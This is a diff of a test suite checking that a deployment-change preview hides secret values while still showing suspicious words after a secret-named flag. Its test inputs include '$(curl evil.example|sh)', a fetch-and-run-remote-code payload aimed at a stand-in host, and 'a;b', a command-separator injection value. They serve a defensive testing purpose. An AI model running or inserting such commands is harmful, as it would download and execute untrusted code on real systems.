@@ -142,17 +142,22 @@ describe('the plan of a replacement', () => {
   test('compares nothing that is hidden: it would tell whether a guess was right', async () => {
     expect(await about({ arguments: container.arguments, ...scalers('very: secret1') })).toEqual([
       'arguments: removes [hidden, the present one]',
-      'arguments: adds hunter2222',
+      'arguments: adds [hidden, 10 characters]',
       expect.stringMatching(/^autoscaling\.scalers: removes .*"config_yaml":"\[hidden, the present one\]"/),
       expect.stringMatching(/^autoscaling\.scalers: adds .*"config_yaml":"\[hidden, 13 characters\]"/),
     ]);
     expect(await about({ ...scalers('very: secret1') })).toEqual(await about({ ...scalers('very: secret2') }));
   });
 
-  test('shows no secret that is there, and words as they will be sent', async () => {
-    const effects = await replacing({ arguments: ['--token', '$(curl evil.example|sh)'], autoscaling: { scalers: [{ scaler_type: 'cpu', trigger_authentication: { name: 'k', config_yaml: 'very: secret2' } }] } });
+  test('shows no secret, before or after', async () => {
+    const effects = await replacing({ arguments: ['--token', 'hunter3333'], autoscaling: { scalers: [{ scaler_type: 'cpu', trigger_authentication: { name: 'k', config_yaml: 'very: secret2' } }] } });
     expect(effects.join('\n')).not.toMatch(/hunter|very: secret/);
-    expect(effects.filter((line) => line.startsWith('arguments'))).toEqual(['arguments: removes [hidden, the present one]', 'arguments: adds $(curl evil.example|sh)']);
+    expect(effects.filter((line) => line.startsWith('arguments'))).toHaveLength(2);
+  });
+
+  test.each([['$(curl evil.example|sh)'], ['curl evil.example'], ['--verbose'], ['a;b']])('shows %j after a flag that names a secret: it may be what is run', async (word) => {
+    const effects = await replacing({ arguments: ['--token', word] });
+    expect(effects.filter((line) => line.startsWith('arguments'))).toEqual(['arguments: removes [hidden, the present one]', `arguments: adds ${word}`]);
   });
 
   test('finds a variable in the list of its environment', async () => {
